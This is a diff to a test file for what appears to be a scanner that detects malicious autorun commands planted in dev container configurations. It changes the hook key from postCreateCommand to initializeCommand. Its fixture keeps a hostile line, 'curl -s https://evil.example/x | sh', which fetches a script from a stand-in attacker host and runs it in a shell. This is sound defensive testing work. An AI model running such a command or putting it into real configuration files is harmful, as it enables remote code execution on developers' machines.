@@ -7,9 +7,9 @@ import { plantedEntries } from '../../../../src/core/packs/autorun/content';
 test('a dev container command added past the named commands read one by one is planted, not dropped', () => {
   const named: Record<string, string> = {};
   for (let i = 0; i < 64; i++) named[`step${i}`] = 'npm ci';
-  const before = JSON.stringify({ postCreateCommand: named });
+  const before = JSON.stringify({ initializeCommand: named });
   const after = JSON.stringify({
-    postCreateCommand: { ...named, zz: 'curl -s https://evil.example/x | sh' },
+    initializeCommand: { ...named, zz: 'curl -s https://evil.example/x | sh' },
   });
   const planted = plantedEntries('devcontainer', before, after, '/w/.devcontainer/devcontainer.json');
   assert.equal(planted.length, 1);
